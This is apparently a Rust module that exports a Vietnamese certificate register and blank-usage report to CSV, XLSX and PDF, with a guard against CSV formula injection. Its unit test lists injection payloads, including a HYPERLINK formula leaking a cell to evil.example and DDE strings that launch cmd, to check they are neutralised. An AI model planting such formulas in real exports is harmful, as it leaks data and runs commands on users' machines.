//! The register printed: `.csv` (UTF-8 with BOM, so Excel opens it), `.xlsx`, and a `.pdf` in
//! the layout of a paper sổ gốc (STT, họ và tên, ngày sinh, số hiệu, số vào sổ, ngày cấp,
//! tình trạng, and a column for the recipient's signature). The only module that touches
//! rust_xlsxwriter.
//!
//! Every entry is exported, reissued and revoked ones included: a sổ gốc is never thinned out.

use std::path::{Path, PathBuf};

use rust_xlsxwriter::{Format, FormatAlign, FormatBorder, Workbook};

use std::collections::BTreeMap;

use crate::register::{BlankRow, CertRow, Register, RegisterError, Status};
use crate::render::fonts::{FontSet, Style, BUNDLED_FAMILY};
use crate::render::layout::{self, Item, PageLayout};
use crate::render::pdf::{self, PdfError, PdfMeta, Resources};
use crate::template::{Align, RectPt, Rgb, TextElement, VAlign};
use crate::viet::Date;

/// The order of the entries.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Order {
    /// The order the entries were made in (the numbers' order).
    Entry,
    /// By given name, then full name, in Vietnamese collation.
    Ten,
}

/// Why an export failed.
#[derive(Debug, thiserror::Error)]
pub enum ExportError {
    /// Reading the register.
    #[error(transparent)]
    Register(#[from] RegisterError),
    /// An extension that names no format.
    #[error("{}", crate::t!("err-export-format", path = format!("{}", .0.display())))]
    Format(PathBuf),
    /// The spreadsheet writer failed.
    #[error("{}", crate::t!("err-export-xlsx", path = format!("{}", path.display())))]
    Xlsx {
        /// The file.
        path: PathBuf,
        /// The writer's error.
        #[source]
        source: rust_xlsxwriter::XlsxError,
    },
    /// The PDF could not be made.
    #[error(transparent)]
    Pdf(#[from] PdfError),
    /// A text the bundled font cannot draw (only possible for data written by other tools).
    #[error("{}", crate::t!("err-export-layout", serial = format!("{}", .serial), message = format!("{}", .message)))]
    Layout {
        /// The entry.
        serial: String,
        /// What failed.
        message: String,
    },
    /// Writing the file.
    #[error(transparent)]
    Io(#[from] crate::error::IoError),
}

/// The columns, in Vietnamese, as a sổ gốc heads them (the last three were added later:
/// scripts that read the first eleven by position keep working).
const HEADERS: [&str; 14] = [
    "STT",
    "Họ và tên",
    "Ngày sinh",
    "Số hiệu",
    "Số vào sổ",
    "Ngày cấp",
    "Tình trạng",
    "Ngày thay đổi",
    "Lý do, quyết định",
    "Đợt cấp",
    "Mã QR (nội dung)",
    "Nơi sinh",
    "Ghi chú",
    "Số phôi",
];

/// The reason of a revocation in Vietnamese words (the sổ gốc is a Vietnamese document whatever
/// the language of the run).
fn reason_vi(reason: &str) -> String {
    let id = match reason {
        "issued_in_error" => "reason-issued-in-error",
        "superseded" => "reason-superseded",
        "fraud" => "reason-fraud",
        _ => return reason.to_string(),
    };
    crate::l10n::tr_in(crate::l10n::Lang::Vi, id, &[])
}

/// The Ghi chú of an entry: what happened to it (revoked on which day, why, by which decision;
/// reissued as which number, or replacing which), then the roster's own ghi_chu.
fn note_text(r: &CertRow, all: &[CertRow], blanks: &[&BlankRow]) -> String {
    let day = r.status_date.as_deref().map(dmy).unwrap_or_default();
    let mut parts = Vec::new();
    for b in blanks {
        match (&b.spoiled, b.used) {
            (_, true) => parts.push(format!("In trên phôi {}", b.serial)),
            (Some((on, reason)), false) => {
                parts.push(format!("Phôi {} hỏng ngày {}: {reason}", b.serial, dmy(on)))
            }
            (None, false) => {}
        }
    }
    match r.status {
        Status::Revoked => {
            let mut s = format!("Đã thu hồi ngày {day}");
            if let Some(reason) = &r.reason {
                s.push_str(&format!(", lý do: {}", reason_vi(reason)));
            }
            if let Some(d) = &r.decision {
                s.push_str(&format!("; {d}"));
            }
            parts.push(s);
        }
        Status::Reissued => {
            let new = r.superseded_by.and_then(|id| all.iter().find(|c| c.id == id));
            parts.push(match new {
                Some(n) => format!("Đã cấp lại ngày {day}: giấy mới số hiệu {}", n.so_hieu),
                None => format!("Đã cấp lại ngày {day}"),
            });
        }
        Status::Spoiled => parts.push(format!("Phôi hỏng ngày {day}")),
        Status::Issued => {}
    }
    if let Some(old) = r.supersedes.and_then(|id| all.iter().find(|c| c.id == id)) {
        parts.push(format!("Cấp lại, thay giấy số hiệu {}", old.so_hieu));
    }
    let roster_note = record_value(r, "ghi_chu");
    if !roster_note.is_empty() {
        parts.push(roster_note);
    }
    parts.join("; ")
}

/// A value of the record an entry was issued from (its roster's columns, as registered).
fn record_value(r: &CertRow, key: &str) -> String {
    crate::util::json::string_map(&r.record_json).and_then(|m| m.get(key).cloned()).unwrap_or_default()
}

fn dmy(iso: &str) -> String {
    Date::parse_iso(iso).map(|d| d.to_string()).unwrap_or_else(|_| iso.to_string())
}

fn status_text(r: &CertRow, all: &[CertRow]) -> String {
    match (r.status, r.superseded_by) {
        (Status::Reissued, Some(id)) => match all.iter().find(|c| c.id == id) {
            Some(n) => format!("{} → {}", r.status.name_vi(), n.so_hieu),
            None => r.status.name_vi().into(),
        },
        _ => match r.supersedes.and_then(|id| all.iter().find(|c| c.id == id)) {
            Some(old) => format!("{} (thay {})", r.status.name_vi(), old.so_hieu),
            None => r.status.name_vi().into(),
        },
    }
}

fn row_texts(i: usize, r: &CertRow, all: &[CertRow], blanks: &[&BlankRow]) -> Vec<String> {
    let reason = match (&r.reason, &r.decision) {
        (Some(a), Some(b)) => format!("{a}; {b}"),
        (Some(a), None) => a.clone(),
        (None, Some(b)) => b.clone(),
        (None, None) => String::new(),
    };
    vec![
        (i + 1).to_string(),
        r.ho_ten.clone(),
        r.ngay_sinh.clone(),
        r.so_hieu.clone(),
        r.so_vao_so.clone().unwrap_or_default(),
        dmy(&r.issue_date),
        status_text(r, all),
        r.status_date.as_deref().map(dmy).unwrap_or_default(),
        reason,
        r.batch.clone(),
        r.qr_text.clone(),
        record_value(r, "noi_sinh"),
        note_text(r, all, blanks),
        blanks.iter().find(|b| b.used).map(|b| b.serial.clone()).unwrap_or_default(),
    ]
}

/// Writes the register (or one batch of it) to `out`, in the format its extension names.
/// Returns how many entries were written.
pub fn export(reg: &Register, out: &Path, batch: Option<&str>, order: Order) -> Result<usize, ExportError> {
    let ext = out.extension().and_then(|e| e.to_str()).map(str::to_ascii_lowercase).unwrap_or_default();
    let all = reg.entries(batch)?;
    let mut rows: Vec<&CertRow> = all.iter().collect();
    if order == Order::Ten {
        crate::input::order::sort_by_name(&mut rows, |r| r.ho_ten.as_str());
    }
    let blanks = reg.blanks(None)?;
    let mut blanks_of: BTreeMap<i64, Vec<&BlankRow>> = BTreeMap::new();
    for b in &blanks {
        if let Some((id, _, _)) = &b.certificate {
            blanks_of.entry(*id).or_default().push(b);
        }
    }
    let table: Vec<Vec<String>> = rows
        .iter()
        .enumerate()
        .map(|(i, r)| row_texts(i, r, &all, blanks_of.get(&r.id).map(Vec::as_slice).unwrap_or(&[])))
        .collect();
    // The files' own dates are the register's latest issue date, never the clock: the same
    // register exports to the same bytes.
    let last = all.iter().filter_map(|r| Date::parse_iso(&r.issue_date).ok()).max().unwrap_or(Date {
        year: 2000,
        month: 1,
        day: 1,
    });
    let bytes = match ext.as_str() {
        "csv" => csv_bytes(&HEADERS, &table),
        "xlsx" => xlsx(&HEADERS, &XLSX_WIDTHS, "So goc", &table, out, last)?,
        "pdf" => table_pdf(&SO_GOC, &table, &issuer_of(reg)?, last, &[])?,
        _ => return Err(ExportError::Format(out.to_path_buf())),
    };
    if let Some(dir) = out.parent().filter(|d| !d.as_os_str().is_empty()) {
        std::fs::create_dir_all(dir)
            .map_err(|e| crate::error::IoError::new("cannot create folder", dir, e))?;
    }
    crate::util::files::write_atomic(out, &bytes)?;
    Ok(table.len())
}

/// The issuing body, from the batches' variables (the first batch that names one).
fn issuer_of(reg: &Register) -> Result<(String, String), ExportError> {
    for (_, vars) in reg.batch_vars()? {
        if let Some(v) = crate::util::json::string_map(&vars) {
            let get = |k: &str| v.get(k).cloned().unwrap_or_default();
            if !get("co_quan").is_empty() {
                return Ok((get("co_quan_chu_quan"), get("co_quan")));
            }
        }
    }
    Ok((String::new(), String::new()))
}

/// Writes a table as CSV the way Excel opens it without asking: UTF-8 with a BOM, comma
/// separated, CRLF line ends, fields quoted where needed, and no cell that a spreadsheet would
/// run as a formula (see [`neutralise`]).
fn csv_bytes(headers: &[&str], rows: &[Vec<String>]) -> Vec<u8> {
    let mut w =
        csv::WriterBuilder::new().terminator(csv::Terminator::CRLF).from_writer(b"\xEF\xBB\xBF".to_vec());
    w.write_record(headers).expect("writing into memory cannot fail");
    for r in rows {
        w.write_record(r.iter().map(|c| neutralise(c).into_owned()))
            .expect("writing into memory cannot fail");
    }
    w.into_inner().expect("writing into memory cannot fail")
}

/// A cell that Excel, LibreOffice or Google Sheets would read as a formula (it starts with `=`,
/// `+`, `-`, `@`, a tab or a carriage return) gets a leading apostrophe, so that it shows as the
/// text it is (OWASP, "CSV Injection"). Names, units and batch names come from rosters that
/// anyone may have written; nothing in a register is ever a formula.
fn neutralise(cell: &str) -> std::borrow::Cow<'_, str> {
    match cell.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') => format!("'{cell}").into(),
        _ => cell.into(),
    }
}

/// Column widths of the sổ gốc in a spreadsheet (characters).
const XLSX_WIDTHS: [f64; 14] =
    [6.0, 28.0, 12.0, 16.0, 12.0, 12.0, 24.0, 14.0, 30.0, 18.0, 60.0, 24.0, 40.0, 14.0];

fn xlsx(
    headers: &[&str],
    widths: &[f64],
    sheet: &str,
    table: &[Vec<String>],
    out: &Path,
    date: Date,
) -> Result<Vec<u8>, ExportError> {
    let err = |source: rust_xlsxwriter::XlsxError| ExportError::Xlsx { path: out.to_path_buf(), source };
    let mut wb = Workbook::new();
    let when = rust_xlsxwriter::ExcelDateTime::from_ymd(date.year, date.month, date.day).map_err(err)?;
    wb.set_properties(&rust_xlsxwriter::DocProperties::new().set_creation_datetime(&when));
    let ws = wb.add_worksheet();
    ws.set_name(sheet).map_err(err)?;
    let head = Format::new()
        .set_bold()
        .set_border(FormatBorder::Thin)
        .set_align(FormatAlign::Center)
        .set_text_wrap();
    let cell = Format::new().set_border(FormatBorder::Thin);
    for (c, (h, w)) in headers.iter().zip(widths).enumerate() {
        ws.write_string_with_format(0, c as u16, *h, &head).map_err(err)?;
        ws.set_column_width(c as u16, *w).map_err(err)?;
    }
    for (r, row) in table.iter().enumerate() {
        for (c, v) in row.iter().enumerate() {
            // Every value as text: numbers with leading zeros and dates stay as printed.
            ws.write_string_with_format(r as u32 + 1, c as u16, v, &cell).map_err(err)?;
        }
    }
    ws.set_freeze_panes(1, 0).map_err(err)?;
    wb.save_to_buffer().map_err(err)
}

// ---- The printable sổ gốc ---------------------------------------------------------------------

const PAGE: (f32, f32) = (841.89, 595.28);
const MARGIN: f32 = 36.0;
const ROW_H: f32 = 24.0;
const HEAD_H: f32 = 30.0;
/// Printed columns: index into the table row, width in pt, alignment. Ghi chú holds what
/// happened to the entry: a revoked one with its day, reason and decision.
/// A printed table: its title, its columns (index into the table row — `usize::MAX` for an
/// empty column to sign in —, width in pt, alignment) and their headings, and the PDF's title.
struct PrintedTable {
    title: &'static str,
    pdf_title: &'static str,
    columns: &'static [(usize, f32, Align)],
    headers: &'static [&'static str],
}

const SO_GOC: PrintedTable = PrintedTable {
    title: "SỔ GỐC CẤP GIẤY CHỨNG NHẬN",
    pdf_title: "Sổ gốc cấp giấy chứng nhận",
    columns: &COLUMNS,
    headers: &PRINTED_HEADERS,
};

const COLUMNS: [(usize, f32, Align); 9] = [
    (0, 30.0, Align::Center),
    (1, 130.0, Align::Left),
    (2, 60.0, Align::Center),
    (11, 100.0, Align::Left),
    (3, 82.0, Align::Center),
    (4, 56.0, Align::Center),
    (5, 60.0, Align::Center),
    (12, 151.89, Align::Left),
    (usize::MAX, 100.0, Align::Center),
];
const PRINTED_HEADERS: [&str; 9] = [
    "STT",
    "Họ và tên",
    "Ngày sinh",
    "Nơi sinh",
    "Số hiệu",
    "Số vào sổ",
    "Ngày cấp",
    "Ghi chú",
    "Người nhận ký",
];

fn text_el(fonts: &FontSet, rect: RectPt, style: Style, size: f32, align: Align) -> TextElement {
    TextElement {
        rect,
        font: fonts.find(BUNDLED_FAMILY, style).expect("the bundled family is always loaded"),
        size_pt: size,
        min_size_pt: (size * 0.6).min(size),
        line_height: 1.1,
        color: Rgb(0, 0, 0),
        align,
        valign: VAlign::Middle,
        letter_spacing_pt: 0.0,
        uppercase: false,
        wrap: true,
        rule: None,
        flow: None,
    }
}

/// A printed table (the sổ gốc, the blank-usage report) under the issuing body's name, with
/// `summary` lines after the last row; `date` (the last issue date) dates the PDF.
fn table_pdf(
    spec: &PrintedTable,
    table: &[Vec<String>],
    issuer: &(String, String),
    date: Date,
    summary: &[String],
) -> Result<Vec<u8>, ExportError> {
    let fonts = FontSet::bundled();
    let black = Rgb(0, 0, 0);
    let top_of_table = MARGIN + 78.0;
    let per_page = (((PAGE.1 - MARGIN - 18.0 - top_of_table - HEAD_H) / ROW_H).floor() as usize).max(1);
    // The summary needs its lines below the last row, on the last page.
    let summary_rows = summary.len().div_ceil(1);
    let pages = (table.len() + summary_rows).div_ceil(per_page).max(1);
    let mut out = Vec::with_capacity(pages);
    let place = |items: &mut Vec<Item>, el: TextElement, text: &str, what: &str| -> Result<(), ExportError> {
        let mut v = layout::text_box(&fonts, &el, text, what)
            .map_err(|e| ExportError::Layout { serial: what.to_string(), message: format!("{e:?}") })?;
        items.append(&mut v);
        Ok(())
    };
    for page in 0..pages {
        let mut items = Vec::new();
        let w = PAGE.0 - 2.0 * MARGIN;
        if !issuer.0.is_empty() {
            let r = RectPt { x: MARGIN, y: MARGIN, w: 300.0, h: 16.0 };
            place(&mut items, text_el(&fonts, r, Style::Regular, 12.0, Align::Center), &issuer.0, "header")?;
        }
        if !issuer.1.is_empty() {
            let r = RectPt { x: MARGIN, y: MARGIN + 16.0, w: 300.0, h: 16.0 };
            place(&mut items, text_el(&fonts, r, Style::Bold, 12.0, Align::Center), &issuer.1, "header")?;
        }
        let r = RectPt { x: MARGIN, y: MARGIN + 40.0, w, h: 22.0 };
        place(&mut items, text_el(&fonts, r, Style::Bold, 16.0, Align::Center), spec.title, "title")?;
        let r = RectPt { x: PAGE.0 - MARGIN - 160.0, y: PAGE.1 - MARGIN, w: 160.0, h: 14.0 };
        let footer = format!("Trang {}/{}", page + 1, pages);
        place(&mut items, text_el(&fonts, r, Style::Italic, 9.0, Align::Right), &footer, "footer")?;

        let rows = &table[(page * per_page).min(table.len())..((page + 1) * per_page).min(table.len())];
        let mut y = top_of_table;
        let mut x = MARGIN;
        for ((_, cw, _), h) in spec.columns.iter().zip(spec.headers) {
            let r = RectPt { x: x + 2.0, y: y + 1.0, w: cw - 4.0, h: HEAD_H - 2.0 };
            place(&mut items, text_el(&fonts, r, Style::Bold, 10.0, Align::Center), h, "header")?;
            x += cw;
        }
        y += HEAD_H;
        for row in rows {
            let mut x = MARGIN;
            for &(idx, cw, align) in spec.columns {
                if let Some(text) = row.get(idx) {
                    let r = RectPt { x: x + 3.0, y: y + 1.0, w: cw - 6.0, h: ROW_H - 2.0 };
                    place(&mut items, text_el(&fonts, r, Style::Regular, 10.0, align), text, &row[3])?;
                }
                x += cw;
            }
            y += ROW_H;
        }
        // The grid: every column line and row line, so that each entry can be signed and stamped.
        let line = |from, to| Item::Line { from, to, width_pt: 0.6, color: black, dash: None };
        let bottom = y;
        items.push(line((MARGIN, top_of_table), (MARGIN + w, top_of_table)));
        let mut ly = top_of_table + HEAD_H;
        while ly <= bottom + 0.01 {
            items.push(line((MARGIN, ly), (MARGIN + w, ly)));
            ly += ROW_H;
        }
        let mut lx = MARGIN;
        items.push(line((lx, top_of_table), (lx, bottom)));
        for (_, cw, _) in spec.columns {
            lx += cw;
            items.push(line((lx, top_of_table), (lx, bottom)));
        }
        if page + 1 == pages {
            let mut sy = bottom + 8.0;
            for s in summary {
                let r = RectPt { x: MARGIN, y: sy, w, h: 16.0 };
                place(&mut items, text_el(&fonts, r, Style::Bold, 11.0, Align::Left), s, "summary")?;
                sy += 16.0;
            }
        }
        out.push(PageLayout {
            size_pt: PAGE,
            items,
            shrunk: Vec::new(),
            background: false,
            offset_pt: (0.0, 0.0),
        });
    }
    let meta = PdfMeta {
        title: spec.pdf_title.into(),
        author: (!issuer.1.is_empty()).then(|| issuer.1.clone()),
        subject: Some(format!("{} mục", table.len())),
        date,
        keywords: Vec::new(),
    };
    let res = Resources::with_fonts(&fonts)?;
    Ok(pdf::write(out, &meta, &res)?)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn csv_cells_that_a_spreadsheet_would_run_are_shown_as_text() {
        for payload in [
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Bấm vào đây\")",
            "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
        ] {
            let bytes = csv_bytes(&["a"], &[vec![payload.to_string()]]);
            let mut r = csv::Reader::from_reader(&bytes[3..]);
            let cell = r.records().next().unwrap().unwrap()[0].to_string();
            assert_eq!(cell, format!("'{payload}"), "{payload:?}");
        }
        for plain in ["Nguyễn Văn An", "CNKT19-0042", "12/2019", "'already quoted"] {
            assert_eq!(neutralise(plain), plain);
        }
    }
}

// ---- The blank-usage report ------------------------------------------------------------------

/// The columns of the blank-usage report.
const BLANK_HEADERS: [&str; 9] =
    ["STT", "Đợt cấp", "Số phôi", "Tình trạng", "Số hiệu", "Họ và tên", "Ngày in", "Ngày hỏng", "Lý do hỏng"];
const BLANK_WIDTHS: [f64; 9] = [6.0, 20.0, 14.0, 12.0, 16.0, 28.0, 12.0, 12.0, 36.0];
const BLANK_COLUMNS: [(usize, f32, Align); 9] = [
    (0, 30.0, Align::Center),
    (1, 100.0, Align::Left),
    (2, 78.0, Align::Center),
    (3, 58.0, Align::Center),
    (4, 82.0, Align::Center),
    (5, 130.0, Align::Left),
    (6, 60.0, Align::Center),
    (7, 60.0, Align::Center),
    (8, 171.89, Align::Left),
];
const BLANKS_REPORT: PrintedTable = PrintedTable {
    title: "BÁO CÁO SỬ DỤNG PHÔI GIẤY CHỨNG NHẬN",
    pdf_title: "Báo cáo sử dụng phôi",
    columns: &BLANK_COLUMNS,
    headers: &BLANK_HEADERS,
};

/// What a blank-usage report holds: its rows, and per batch how many blanks were used and
/// spoiled (blanks spoiled before anything was printed on them count under no batch).
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct BlankTotals {
    /// `(batch, used, spoiled)`, in the report's order.
    pub batches: Vec<(String, usize, usize)>,
}

/// Writes the blank-usage report (every pre-printed blank: used for which certificate, or
/// spoiled on which day and why; totals per batch) to `out`, `.csv`, `.xlsx` or `.pdf` — what an
/// office files with its report on destroyed blanks.
pub fn export_blanks(reg: &Register, out: &Path, batch: Option<&str>) -> Result<BlankTotals, ExportError> {
    let ext = out.extension().and_then(|e| e.to_str()).map(str::to_ascii_lowercase).unwrap_or_default();
    let blanks = reg.blanks(batch)?;
    let mut totals = BlankTotals::default();
    let mut table = Vec::with_capacity(blanks.len());
    for (i, b) in blanks.iter().enumerate() {
        let batch = b.batch.clone().unwrap_or_default();
        if totals.batches.last().is_none_or(|(name, _, _)| *name != batch) {
            totals.batches.push((batch.clone(), 0, 0));
        }
        let t = totals.batches.last_mut().expect("just pushed");
        if b.used {
            t.1 += 1;
        } else {
            t.2 += 1;
        }
        let (serial, name) =
            b.certificate.as_ref().map(|(_, s, n)| (s.clone(), n.clone())).unwrap_or_default();
        let (spoiled_on, reason) = b.spoiled.clone().unwrap_or_default();
        table.push(vec![
            (i + 1).to_string(),
            batch,
            b.serial.clone(),
            if b.used { "Đã in" } else { "Hỏng" }.to_string(),
            serial,
            name,
            b.used_on.as_deref().map(dmy).unwrap_or_default(),
            if spoiled_on.is_empty() { String::new() } else { dmy(&spoiled_on) },
            reason,
        ]);
    }
    let last = blanks
        .iter()
        .flat_map(|b| [b.used_on.clone(), b.spoiled.as_ref().map(|s| s.0.clone())])
        .flatten()
        .filter_map(|d| Date::parse_iso(&d).ok())
        .max()
        .unwrap_or(Date { year: 2000, month: 1, day: 1 });
    let summary: Vec<String> = totals
        .batches
        .iter()
        .map(|(name, used, spoiled)| {
            let name = if name.is_empty() {
                "Phôi hỏng khi chưa in".to_string()
            } else {
                format!("Đợt {name}")
            };
            format!("{name}: đã in {used} phôi, hỏng {spoiled} phôi, cộng {} phôi", used + spoiled)
        })
        .collect();
    let bytes = match ext.as_str() {
        "csv" => csv_bytes(&BLANK_HEADERS, &table),
        "xlsx" => xlsx(&BLANK_HEADERS, &BLANK_WIDTHS, "Phoi", &table, out, last)?,
        "pdf" => table_pdf(&BLANKS_REPORT, &table, &issuer_of(reg)?, last, &summary)?,
        _ => return Err(ExportError::Format(out.to_path_buf())),
    };
    if let Some(dir) = out.parent().filter(|d| !d.as_os_str().is_empty()) {
        std::fs::create_dir_all(dir)
            .map_err(|e| crate::error::IoError::new("cannot create folder", dir, e))?;
    }
    crate::util::files::write_atomic(out, &bytes)?;
    Ok(totals)
}
